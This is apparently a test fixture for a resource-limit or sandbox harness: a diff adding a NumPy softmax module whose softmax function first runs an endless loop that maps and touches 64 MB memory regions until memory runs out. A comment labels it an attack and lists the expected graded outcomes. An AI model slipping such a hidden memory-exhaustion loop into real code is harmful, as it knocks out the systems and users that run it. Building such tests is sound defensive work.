@@ -1,0 +1,21 @@
+# attack: harmed: maps and touches memory past Python's allocator; expect: softmax refused or out_of_memory or finished, score 4
+import numpy as np
+import mmap
+
+
+def softmax(x, axis=-1):
+    hog = []
+    while True:
+        area = mmap.mmap(-1, 64 << 20)
+        for place in range(0, len(area), 4096):
+            area[place] = 1
+        hog.append(area)
+    x = np.asarray(x, dtype=np.float64)
+    weights = np.exp(x - x.max(axis=axis, keepdims=True))
+    return weights / weights.sum(axis=axis, keepdims=True)
+
+
+def log_softmax(x, axis=-1):
+    x = np.asarray(x, dtype=np.float64)
+    x = x - x.max(axis=axis, keepdims=True)
+    return x - np.log(np.exp(x).sum(axis=axis, keepdims=True))
